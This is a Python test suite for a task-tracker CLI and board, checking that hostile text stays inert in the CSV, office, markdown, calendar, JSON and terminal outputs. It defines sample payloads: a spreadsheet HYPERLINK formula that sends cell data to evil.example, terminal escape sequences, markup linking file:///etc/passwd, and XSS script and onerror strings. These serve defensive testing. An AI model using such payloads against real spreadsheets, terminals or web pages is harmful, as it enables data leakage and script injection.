"""Hostile text stays text: payloads entered through every door come out inert in every output.

The payloads are put into a real database through `add`, `edit`, `move --note`, `progress` and
`apply`, and through an imported plan file; then every output is read back: CLI tables, csv,
json, show, history, the xlsx/docx/md/csv reports, the md reminders, the calendar, and the board.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from test_tui_support import SIZE, TODAY, make_store, screen_text, settle

from tracker.cli import cli
from tracker.inert import markdown_cell, printable, spreadsheet_cell, xml_safe
from tracker.store import Store
from tracker.tui.app import TrackerApp

PLANS = Path(__file__).resolve().parent.parent / "plans"
FORMULA = '=HYPERLINK("http://evil.example/?d="&C41,"Xem chi tiết")'
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mđỏ"
MARKUP = "[link=file:///etc/passwd]mở[/link] [/ [x= [@click=app.quit]"
HTML = "<script>alert(1)</script><img src=x onerror=alert(1)>"
CONTROLS = "a\x00b\x01c\x7fd\x9be\u202ef"
CARD = "nam-dinh-55-2013.n1"


def run(*args: str, input: str | None = None):
    result = CliRunner().invoke(cli, ["--lang", "en", *args], input=input, catch_exceptions=False)
    return result


def assert_inert(text: str) -> None:
    """No escape sequence, control character (but newline) or bidi override survives."""
    bad = [ch for ch in text if (ord(ch) < 32 and ch not in "\n") or 0x7f <= ord(ch) <= 0x9f
           or 0x202a <= ord(ch) <= 0x202e]
    assert not bad, [hex(ord(ch)) for ch in bad]


@pytest.fixture
def hostile_db(isolated_db: Path) -> Path:
    assert run("import", str(PLANS / "nam-dinh-55-kh-ubnd-2013.txt")).exit_code == 0
    added = run("add", "--plan", "nam-dinh-55-2013", "--content", f"{FORMULA} {ESCAPES} {CONTROLS}",
                "--lead", "Sở Nội vụ", "--time", "Quý II/2014")
    assert added.exit_code == 0, added.output
    assert run("edit", CARD, "--note", f"{MARKUP}\n{HTML}").exit_code == 0
    assert run("move", CARD, "--to", "doing", "--note", f"+1+1 {ESCAPES}").exit_code == 0
    assert run("progress", CARD, "--note", f"@SUM(A1) {HTML}", "--by", f"-2+3 {ESCAPES}",
               "--date", "2014-05-02").exit_code == 0
    apply = run("apply", "-", input=f"id,status,note\n{CARD},doing,\"{FORMULA.replace(chr(34), chr(34) * 2)} \x1b[2J\"\n")
    assert apply.exit_code == 0, apply.output
    return isolated_db


def test_the_store_keeps_the_text_but_no_control_character(hostile_db: Path) -> None:
    card = Store(hostile_db).load().cards[CARD]
    assert card.content.startswith(FORMULA)                 # the text itself is kept: it is data
    # "\x9b" starts a C1 control sequence ending at "e": the terminal would have eaten it too.
    assert "đỏ" in card.content and card.content.endswith(" abcdf")
    for text in (card.content, card.note, *(e.note for e in Store(hostile_db).load().events_for(CARD)),
                 *(e.by for e in Store(hostile_db).load().events_for(CARD))):
        assert_inert(text)
    assert card.note.startswith(FORMULA)


def test_terminal_outputs_print_text_not_markup_or_escapes(hostile_db: Path) -> None:
    for args in (("list",), ("list", "--search", "HYPERLINK"), ("show", CARD), ("history", CARD),
                 ("remind", "--as-of", "2014-06-30", "--within", "400"), ("report", "--as-of", "2014-06-30")):
        result = run(*args)
        assert result.exit_code == 0, (args, result.output)
        assert_inert(result.output)
    table = run("list", "--search", "HYPERLINK").output
    assert "=HYPERLINK(" in table
    shown = run("show", CARD).output
    assert "[link=file:///etc/passwd]" in shown or "[link=file:///etc/passwd]" in run("history", CARD).output


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(hostile_db: Path) -> None:
    rows = list(csv.DictReader(io.StringIO(run("list", "--format", "csv").output)))
    row = next(r for r in rows if r["id"] == CARD)
    assert row["content"].startswith("'=HYPERLINK(")
    assert all(not value.startswith(("=", "+", "@")) for r in rows for value in r.values())
    report = run("report", "--as-of", "2014-07-31", "--format", "csv").output
    assert all(not cell.startswith(("=", "+", "@", "-")) for line in csv.reader(io.StringIO(report)) for cell in line
               if cell and not cell.lstrip("-").replace(".", "", 1).isdigit())


def test_office_reports_open_and_hold_no_formula(hostile_db: Path, tmp_path: Path) -> None:
    xlsx, docx = tmp_path / "r.xlsx", tmp_path / "r.docx"
    for path, fmt in ((xlsx, "xlsx"), (docx, "docx")):
        result = run("report", "--as-of", "2014-07-31", "--format", fmt, "-o", str(path))   # the card is overdue
        assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(xlsx)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells and not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert any(str(cell.value).startswith("'=HYPERLINK(") for cell in cells)
    with zipfile.ZipFile(docx) as archive:
        body = archive.read("word/document.xml").decode("utf-8")
    assert "HYPERLINK" in body and "\x1b" not in body and "\x00" not in body


def test_markdown_outputs_escape_html(hostile_db: Path) -> None:
    reminders = run("remind", "--as-of", "2014-06-30", "--within", "400", "--format", "md").output
    report = run("report", "--as-of", "2014-07-31", "--format", "md").output
    for text in (reminders, report):
        assert "<script>" not in text and "<img" not in text
        assert_inert(text)
    assert "&lt;script&gt;" in reminders


def test_calendar_and_json_carry_the_text_safely(hostile_db: Path, tmp_path: Path) -> None:
    data = json.loads(run("list", "--format", "json").output)
    card = next(c for c in data if c["id"] == CARD)
    assert card["content"].startswith(FORMULA)
    path = tmp_path / "c.ics"
    assert run("export", "ics", "-o", str(path), "--kind", "both").exit_code == 0
    text = path.read_bytes().decode("utf-8")
    assert "HYPERLINK" in text
    assert_inert(text.replace("\r\n", "\n"))


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("Sở Nội vụ", "Sở Nội vụ"),
    (12, 12), (0.5, 0.5), (None, None),
])
def test_spreadsheet_guard(value, expected) -> None:
    assert spreadsheet_cell(value) == expected


def test_text_helpers() -> None:
    assert printable("a\x1b[2Jb\x1b]0;t\x07c\nd") == "abc d"
    assert printable("a\x1b[2Jb\nc", newlines=True) == "ab\nc"
    assert xml_safe("a\x00b\x0bc\ufffe") == "abc"
    assert markdown_cell("<b>|x</b>\n") == "&lt;b&gt;\\|x&lt;/b&gt;"


async def test_the_board_survives_markup_typed_into_the_search_box(tmp_path: Path) -> None:
    db = tmp_path / "db.json"
    make_store(db)
    app = TrackerApp(db, today=TODAY)
    async with app.run_test(size=SIZE) as pilot:
        await settle(pilot, app)
        for typed in ("[/", "[x=", "[@click=app.quit]", "[link=file:///etc/passwd]x"):
            await pilot.press("slash")
            search = app.screen.query_one("#search")
            search.value = typed
            await pilot.press("enter")
            await settle(pilot, app)
            assert app.is_running
            assert typed in screen_text(app)            # shown as typed in the filter bar
            await pilot.press("escape")
            await settle(pilot, app)
        app.board.set_filters(agency="[@click=app.quit]")
        app.screen.update_filter_bar()
        await settle(pilot, app)
        assert app.is_running and "[@click=app.quit]" in screen_text(app)
